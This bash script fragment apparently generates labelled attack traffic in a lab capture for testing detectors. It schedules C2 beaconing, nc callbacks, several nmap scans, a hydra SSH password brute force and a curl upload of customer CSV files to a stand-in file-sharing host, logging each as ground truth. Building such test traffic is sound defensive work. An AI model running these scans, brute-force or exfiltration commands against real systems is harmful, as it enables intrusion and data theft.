# The attackers, each a real tool run at its place in the schedule (fractions of DURATION), each
# recording its own begin and end in the event log the truth table is written from.
# shellcheck disable=SC2154  # W, END, START, DURATION, HERE come from record-office.sh

NMAP=(nmap --max-rtt-timeout 500ms --host-timeout 30m)
SRV_TARGETS=$SRV_NET.2-254 # the whole server /24 except the router (.1)

# beacon: frank-pc calls its C2 every 30-60 s (uniform jitter) for the whole capture
job_beacon() {
  local b0 b1
  RANDOM=311
  sleep_until "$(at 0.02)"
  b0=$(now)
  while before "$END"; do
    nsx frank curl -s -o /dev/null --max-time 10 -A 'Mozilla/5.0 (compatible; UpdCheck/2.1)' \
      'http://update-check.example.net/api/v2/check?id=frank-pc&v=2.1'
    b1=$(now)
    sleep "$(rand 30 60)"
  done
  event beaconing "$b0" "$b1" "HTTP GET every 30-60 s"
}

# failed callback: heidi-pc keeps trying one external IP:port that never answers
job_callback() {
  local b0 b1 n=0
  RANDOM=733
  sleep_until "$(at 0.03)"
  b0=$(now)
  while before "$END"; do
    nsx heidi nc -z -w2 "${H_IP4[dead]}" 8443
    n=$((n + 1)) b1=$(now)
    sleep "$(rand 1 4)"
  done
  event failed-callback "$b0" "$b1" "$n attempts to ${H_IP4[dead]}:8443, none answered"
}

# slow scan: mallory-pc, 10 ports on 19 servers, one probe every few seconds over ~60% of the capture
job_slowscan() {
  local b0 delay
  delay=$(awk -v d="$DURATION" 'BEGIN { x = d * 0.6 / 190; printf "%.1f", (x < 0.5 ? 0.5 : x) }')
  sleep_until "$(at 0.08)"
  b0=$(now)
  # one host at a time, one probe at a time: nmap's delay is per host
  nsx mallory "${NMAP[@]}" -sS -Pn -n --max-retries 0 --max-hostgroup 1 --max-parallelism 1 --scan-delay "${delay}s" \
    -p 21,22,23,25,80,139,443,445,3389,8080 "$SRV_NET.2-20"
  event slow-scan "$b0" "$(now)" "nmap -sS --scan-delay ${delay}s, 10 ports x 19 hosts"
}

# vertical scan: ivan-pc, ports 1-1024 and common database ports of the database server, with
# nmap's host discovery and reverse lookup
job_vscan() {
  local b0
  sleep_until "$(at 0.20)"
  b0=$(now)
  nsx ivan "${NMAP[@]}" -sS -T4 -p 1-1024,1433,1521,3306,5432,6379,8080,9200,27017 "${H_IP4[db]}"
  event vertical-scan "$b0" "$(now)" "nmap -sS -T4, 1032 ports"
}

# horizontal sweep: judy-pc, ports 445 and 3389 on every address of the server /24
job_hscan() {
  local b0
  sleep_until "$(at 0.35)"
  b0=$(now)
  nsx judy "${NMAP[@]}" -sS -Pn -n -p 445,3389 "$SRV_TARGETS"
  event horizontal-scan "$b0" "$(now)" "nmap -sS -p 445,3389 on $SRV_TARGETS"
}

# UDP scan: niaj-pc, the 100 most common UDP ports of the DNS and web servers
job_uscan() {
  local b0
  sleep_until "$(at 0.55)"
  b0=$(now)
  nsx niaj "${NMAP[@]}" -sU -Pn -n --top-ports 100 --max-retries 1 "${H_IP4[ns1]}" "${H_IP4[www]}"
  event udp-scan "$b0" "$(now)" "nmap -sU --top-ports 100"
}

# brute force: an internet host guesses SSH passwords on the bastion (none can succeed)
job_brute() {
  local b0
  sleep_until "$(at 0.62)"
  b0=$(now)
  (cd "$W/content" && nsx brute timeout "$(awk -v d="$DURATION" 'BEGIN { printf "%d", d * 0.12 }')" \
    hydra -I -t 4 -w 10 -L users.txt -P passwords.txt -o "$W/logs/hydra-found.txt" "ssh://${H_IP4[bastion]}")
  event brute-force "$b0" "$(now)" "hydra ssh, 8 users x 98 passwords"
}

# exfiltration: grace-pc uploads a customer export in four parts to a file-sharing service
job_exfil() {
  local b0 k
  RANDOM=977
  sleep_until "$(at 0.78)"
  b0=$(now)
  for k in 1 2 3 4; do
    nsx grace curl -s -o /dev/null --max-time 600 --limit-rate 3M -T "$W/content/customers-part$k.csv" \
      "http://files.example.org:443/upload/q4-export-part$k.csv"
    ((k == 4)) || sleep "$(rand 10 30)"
  done
  event exfiltration "$b0" "$(now)" "4 HTTP PUT uploads, $((BULK_MB)) MB in all"
}

# the internet's background scanning of the campus block, from three addresses of one /24
job_scana() {
  local b0
  sleep_until "$(at 0.15)"
  b0=$(now)
  nsx scana "${NMAP[@]}" -sS -Pn -n -T3 --top-ports 20 --max-retries 1 "$SRV_TARGETS"
  event background-scan-a "$b0" "$(now)" "nmap --top-ports 20 over the server /24"
}
job_scanb() {
  local b0 delay
  delay=$(awk -v d="$DURATION" 'BEGIN { x = d * 0.35 / 253; printf "%.1f", (x < 0.2 ? 0.2 : x) }')
  sleep_until "$(at 0.30)"
  b0=$(now)
  nsx scanb "${NMAP[@]}" -sS -Pn -n -p 23 --max-retries 0 --max-hostgroup 1 --max-parallelism 1 \
    --scan-delay "${delay}s" "$SRV_TARGETS"
  event background-scan-b "$b0" "$(now)" "telnet sweep, one probe every ${delay}s"
}
job_scanc() {
  local b0 list=$W/scanc-targets.txt n
  RANDOM=4242
  for n in $(seq 1 30); do echo "$SRV_NET.$(rand 2 254)"; done | sort -u >"$list"
  sleep_until "$(at 0.50)"
  b0=$(now)
  nsx scanc "${NMAP[@]}" -sS -Pn -n -T2 -p 80,443,8080,8443 --max-retries 0 -iL "$list"
  event background-scan-c "$b0" "$(now)" "web ports on $(wc -l <"$list") addresses"
}
